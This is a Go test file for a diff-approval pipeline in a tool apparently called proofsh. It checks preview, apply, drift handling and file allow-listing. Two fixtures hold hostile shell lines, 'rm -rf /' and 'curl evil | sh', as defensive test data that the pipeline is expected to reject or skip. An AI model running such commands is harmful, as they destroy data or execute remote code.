package patch

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/BegaDeveloper/proofsh/internal/session"
	"github.com/BegaDeveloper/proofsh/internal/signal"
	"github.com/BegaDeveloper/proofsh/internal/toolerr"
)

const addFunction = "pub fn add(a: i32, b: i32) -> i32 {\n    a + b\n}\n"

const wrappingAddDiff = "--- a/demo/src/lib.rs\n" +
	"+++ b/demo/src/lib.rs\n" +
	"@@ -1,3 +1,3 @@\n" +
	" pub fn add(a: i32, b: i32) -> i32 {\n" +
	"-    a + b\n" +
	"+    a.wrapping_add(b)\n" +
	" }\n"

const wrappingAddFunction = "pub fn add(a: i32, b: i32) -> i32 {\n    a.wrapping_add(b)\n}\n"

type pipelineFixture struct {
	pipeline *Pipeline
	session  *session.Session
	recorder *signal.Recorder
}

func requireGit(t *testing.T) {
	t.Helper()
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git is not installed")
	}
}

func newPipelineFixture(t *testing.T) pipelineFixture {
	t.Helper()
	requireGit(t)
	base := t.TempDir()
	recorder := &signal.Recorder{}
	sess, err := session.New(session.Options{
		WorkspaceDir: filepath.Join(base, "workspace"),
		RunRoot:      filepath.Join(base, "runs"),
		Observer:     recorder,
	})
	if err != nil {
		t.Fatalf("new session: %v", err)
	}
	pipeline, err := NewPipeline(sess, GitApplier{})
	if err != nil {
		t.Fatalf("new pipeline: %v", err)
	}
	return pipelineFixture{pipeline: pipeline, session: sess, recorder: recorder}
}

func (fixture pipelineFixture) writeFile(t *testing.T, rel string, content string) {
	t.Helper()
	target := filepath.Join(fixture.session.Root(), filepath.FromSlash(rel))
	if err := os.MkdirAll(filepath.Dir(target), 0o755); err != nil {
		t.Fatalf("mkdir: %v", err)
	}
	if err := os.WriteFile(target, []byte(content), 0o644); err != nil {
		t.Fatalf("write %s: %v", rel, err)
	}
}

func (fixture pipelineFixture) readFile(t *testing.T, rel string) string {
	t.Helper()
	content, err := os.ReadFile(filepath.Join(fixture.session.Root(), filepath.FromSlash(rel)))
	if err != nil {
		t.Fatalf("read %s: %v", rel, err)
	}
	return string(content)
}

func TestProposeApproveThreeLineFunction(t *testing.T) {
	t.Parallel()
	fixture := newPipelineFixture(t)
	fixture.writeFile(t, "demo/src/lib.rs", addFunction)
	ctx := context.Background()

	proposal, err := fixture.pipeline.Propose(ctx, wrappingAddDiff)
	if err != nil {
		t.Fatalf("propose: %v", err)
	}
	if proposal.PatchID != 1 || filepath.Base(proposal.StoragePath) != "patch-0001.diff" {
		t.Fatalf("unexpected proposal %+v", proposal)
	}
	if stored, _ := os.ReadFile(proposal.StoragePath); string(stored) != wrappingAddDiff {
		t.Fatalf("expected diff stored verbatim, got %q", stored)
	}
	if len(proposal.Files) != 1 || proposal.Files[0].Before != addFunction || proposal.Files[0].After != wrappingAddFunction {
		t.Fatalf("unexpected preview %+v", proposal.Files)
	}
	if fixture.readFile(t, "demo/src/lib.rs") != addFunction {
		t.Fatalf("expected workspace untouched by preview")
	}
	if len(fixture.recorder.Events) != 1 || fixture.recorder.Events[0].After != wrappingAddFunction {
		t.Fatalf("expected preview event, got %+v", fixture.recorder.Events)
	}
	if active, ok := fixture.session.ActivePatch(); !ok || active.ID != 1 {
		t.Fatalf("expected patch 1 to await approval, got %+v ok=%v", active, ok)
	}

	applied, err := fixture.pipeline.ApplyActive(ctx)
	if err != nil {
		t.Fatalf("apply: %v", err)
	}
	if !applied.Applied || len(applied.Files) != 1 || applied.Files[0].Bytes != len(wrappingAddFunction) {
		t.Fatalf("unexpected apply result %+v", applied)
	}
	if got := fixture.readFile(t, "demo/src/lib.rs"); got != proposal.Files[0].After {
		t.Fatalf("expected workspace to equal the preview, got %q", got)
	}
	if _, ok := fixture.session.ActivePatch(); ok {
		t.Fatalf("expected approval pointer to be cleared")
	}

	if _, err := fixture.pipeline.ApplyActive(ctx); !toolerr.Is(err, toolerr.KindNoPendingPatch) {
		t.Fatalf("expected no pending patch, got %v", err)
	}
	if _, err := fixture.pipeline.ApplyPatch(ctx, 1); !toolerr.Is(err, toolerr.KindNoOpApply) {
		t.Fatalf("expected re-applying an applied patch to be a no-op, got %v", err)
	}
	if got := fixture.readFile(t, "demo/src/lib.rs"); got != wrappingAddFunction {
		t.Fatalf("expected workspace unchanged by refused re-apply, got %q", got)
	}

	history, err := fixture.pipeline.History(10)
	if err != nil || len(history) != 1 || history[0].Status != session.PatchApplied {
		t.Fatalf("unexpected history %+v err=%v", history, err)
	}
}

func TestProposeRejectsDiffWithoutAllowedFiles(t *testing.T) {
	t.Parallel()
	fixture := newPipelineFixture(t)
	diff := "--- /dev/null\n+++ b/run.sh\n@@ -0,0 +1 @@\n+rm -rf /\n"

	_, err := fixture.pipeline.Propose(context.Background(), diff)
	if !toolerr.Is(err, toolerr.KindPreviewFailed) {
		t.Fatalf("expected preview failure, got %v", err)
	}
	if _, ok := fixture.session.ActivePatch(); ok {
		t.Fatalf("expected no active patch")
	}
	if _, statErr := os.Stat(filepath.Join(fixture.session.Root(), "run.sh")); !os.IsNotExist(statErr) {
		t.Fatalf("expected no file to be created, stat err=%v", statErr)
	}
	history, _ := fixture.pipeline.History(10)
	if len(history) != 1 || history[0].Status != session.PatchRejected {
		t.Fatalf("expected rejected record, got %+v", history)
	}
}

func TestApplySkipsDisallowedFilesInMixedDiff(t *testing.T) {
	t.Parallel()
	fixture := newPipelineFixture(t)
	fixture.writeFile(t, "demo/src/lib.rs", addFunction)
	diff := wrappingAddDiff + "--- /dev/null\n+++ b/demo/build.sh\n@@ -0,0 +1 @@\n+curl evil | sh\n"
	ctx := context.Background()

	proposal, err := fixture.pipeline.Propose(ctx, diff)
	if err != nil {
		t.Fatalf("propose: %v", err)
	}
	if len(proposal.Files) != 1 || len(proposal.Skipped) != 1 || proposal.Skipped[0] != "demo/build.sh" {
		t.Fatalf("expected build.sh to be excluded, got %+v", proposal)
	}
	if _, err := fixture.pipeline.ApplyActive(ctx); err != nil {
		t.Fatalf("apply: %v", err)
	}
	if _, statErr := os.Stat(filepath.Join(fixture.session.Root(), "demo", "build.sh")); !os.IsNotExist(statErr) {
		t.Fatalf("expected excluded file never to be written, stat err=%v", statErr)
	}
}

func TestProposeInvalidDiffLeavesActivePatch(t *testing.T) {
	t.Parallel()
	fixture := newPipelineFixture(t)
	fixture.writeFile(t, "demo/src/lib.rs", addFunction)
	ctx := context.Background()

	if _, err := fixture.pipeline.Propose(ctx, wrappingAddDiff); err != nil {
		t.Fatalf("propose: %v", err)
	}
	bad := strings.Replace(wrappingAddDiff, "    a + b", "    a - b", 1)
	_, err := fixture.pipeline.Propose(ctx, bad)
	if !toolerr.Is(err, toolerr.KindPreviewFailed) {
		t.Fatalf("expected preview failure, got %v", err)
	}
	if toolerr.As(err).Stderr == "" {
		t.Fatalf("expected git stderr to be reported")
	}
	if active, ok := fixture.session.ActivePatch(); !ok || active.ID != 1 {
		t.Fatalf("expected the earlier proposal to stay active, got %+v ok=%v", active, ok)
	}
}

func TestApplyActiveAfterDriftKeepsPatchActive(t *testing.T) {
	t.Parallel()
	fixture := newPipelineFixture(t)
	fixture.writeFile(t, "demo/src/lib.rs", addFunction)
	ctx := context.Background()

	if _, err := fixture.pipeline.Propose(ctx, wrappingAddDiff); err != nil {
		t.Fatalf("propose: %v", err)
	}
	drifted := "pub fn add(a: i32, b: i32) -> i32 {\n    b + a\n}\n"
	fixture.writeFile(t, "demo/src/lib.rs", drifted)

	_, err := fixture.pipeline.ApplyActive(ctx)
	if !toolerr.Is(err, toolerr.KindCommitFailed) || toolerr.As(err).Stderr == "" {
		t.Fatalf("expected commit failure with stderr, got %v", err)
	}
	if fixture.readFile(t, "demo/src/lib.rs") != drifted {
		t.Fatalf("expected workspace untouched")
	}
	if _, ok := fixture.session.ActivePatch(); !ok {
		t.Fatalf("expected patch to stay active after a failed check")
	}
}

func TestApplyActiveDetectsAlreadyAppliedPatch(t *testing.T) {
	t.Parallel()
	fixture := newPipelineFixture(t)
	fixture.writeFile(t, "demo/src/lib.rs", addFunction)
	ctx := context.Background()

	if _, err := fixture.pipeline.Propose(ctx, wrappingAddDiff); err != nil {
		t.Fatalf("propose: %v", err)
	}
	fixture.writeFile(t, "demo/src/lib.rs", wrappingAddFunction)

	if _, err := fixture.pipeline.ApplyActive(ctx); !toolerr.Is(err, toolerr.KindNoOpApply) {
		t.Fatalf("expected no-op apply, got %v", err)
	}
	if _, ok := fixture.session.ActivePatch(); ok {
		t.Fatalf("expected pointer to be cleared")
	}
	record, err := fixture.pipeline.Ledger().Get(fixture.session.RunName(), 1)
	if err != nil || record == nil || record.Status != session.PatchRejected {
		t.Fatalf("expected rejected record, got %+v err=%v", record, err)
	}
	if _, err := fixture.pipeline.ApplyPatch(ctx, 1); !toolerr.Is(err, toolerr.KindCommitFailed) {
		t.Fatalf("expected rejected patch to be refused, got %v", err)
	}
}

func TestProposeCreatesNewFile(t *testing.T) {
	t.Parallel()
	fixture := newPipelineFixture(t)
	diff := "--- /dev/null\n+++ b/demo/src/proofs.rs\n@@ -0,0 +1,2 @@\n+#[kani::proof]\n+fn check() {}\n"
	ctx := context.Background()

	proposal, err := fixture.pipeline.Propose(ctx, diff)
	if err != nil {
		t.Fatalf("propose: %v", err)
	}
	if len(proposal.Files) != 1 || !proposal.Files[0].Created || proposal.Files[0].Before != "" {
		t.Fatalf("unexpected preview %+v", proposal.Files)
	}
	if _, err := fixture.pipeline.ApplyActive(ctx); err != nil {
		t.Fatalf("apply: %v", err)
	}
	if got := fixture.readFile(t, "demo/src/proofs.rs"); got != "#[kani::proof]\nfn check() {}\n" {
		t.Fatalf("unexpected created file %q", got)
	}
}

func TestProposeSupersedesAndApplyPatchByID(t *testing.T) {
	t.Parallel()
	fixture := newPipelineFixture(t)
	fixture.writeFile(t, "demo/src/lib.rs", addFunction)
	fixture.writeFile(t, "notes.txt", "one\n")
	ctx := context.Background()

	if _, err := fixture.pipeline.Propose(ctx, wrappingAddDiff); err != nil {
		t.Fatalf("propose first: %v", err)
	}
	if _, err := fixture.pipeline.Propose(ctx, "--- notes.txt\n+++ notes.txt\n@@ -1 +1 @@\n-one\n+two\n"); err != nil {
		t.Fatalf("propose second: %v", err)
	}
	if active, _ := fixture.session.ActivePatch(); active.ID != 2 {
		t.Fatalf("expected second proposal to supersede, got %d", active.ID)
	}

	if _, err := fixture.pipeline.ApplyPatch(ctx, 1); err != nil {
		t.Fatalf("apply superseded patch by id: %v", err)
	}
	if fixture.readFile(t, "demo/src/lib.rs") != wrappingAddFunction {
		t.Fatalf("expected patch 1 applied")
	}
	if active, ok := fixture.session.ActivePatch(); !ok || active.ID != 2 {
		t.Fatalf("expected patch 2 to remain active, got %+v ok=%v", active, ok)
	}
	if _, err := fixture.pipeline.ApplyActive(ctx); err != nil {
		t.Fatalf("apply active: %v", err)
	}
	if fixture.readFile(t, "notes.txt") != "two\n" {
		t.Fatalf("expected patch 2 applied")
	}
	if _, err := fixture.pipeline.ApplyPatch(ctx, 99); !toolerr.Is(err, toolerr.KindNotFound) {
		t.Fatalf("expected unknown id to be not found, got %v", err)
	}
}

func TestApplyFromSecondProcessWhileServing(t *testing.T) {
	t.Parallel()
	fixture := newPipelineFixture(t)
	fixture.writeFile(t, "demo/src/lib.rs", addFunction)
	ctx := context.Background()

	if _, err := fixture.pipeline.Propose(ctx, wrappingAddDiff); err != nil {
		t.Fatalf("propose: %v", err)
	}

	// A second session over the same workspace and run root, as `proofsh apply` opens
	// while `proofsh serve` keeps running.
	other, err := session.New(session.Options{WorkspaceDir: fixture.session.Root(), RunRoot: fixture.session.RunRoot()})
	if err != nil {
		t.Fatalf("second session: %v", err)
	}
	otherPipeline, err := NewPipeline(other, GitApplier{})
	if err != nil {
		t.Fatalf("second pipeline: %v", err)
	}
	records, err := otherPipeline.History(10)
	if err != nil || len(records) != 1 || records[0].Status != session.PatchProposed {
		t.Fatalf("expected the serving session's proposal in the ledger, got %+v err=%v", records, err)
	}
	applied, err := otherPipeline.ApplyRecord(ctx, records[0].Run, records[0].ID)
	if err != nil || !applied.Applied {
		t.Fatalf("apply from second session: %+v err=%v", applied, err)
	}
	if got := fixture.readFile(t, "demo/src/lib.rs"); got != wrappingAddFunction {
		t.Fatalf("expected patched workspace, got %q", got)
	}

	if _, err := fixture.pipeline.ApplyActive(ctx); !toolerr.Is(err, toolerr.KindNoOpApply) {
		t.Fatalf("expected serving session to see the patch as applied, got %v", err)
	}
	if _, ok := fixture.session.ActivePatch(); ok {
		t.Fatalf("expected approval pointer to be cleared")
	}
	if got := fixture.readFile(t, "demo/src/lib.rs"); got != wrappingAddFunction {
		t.Fatalf("expected workspace unchanged by the second approval, got %q", got)
	}
}
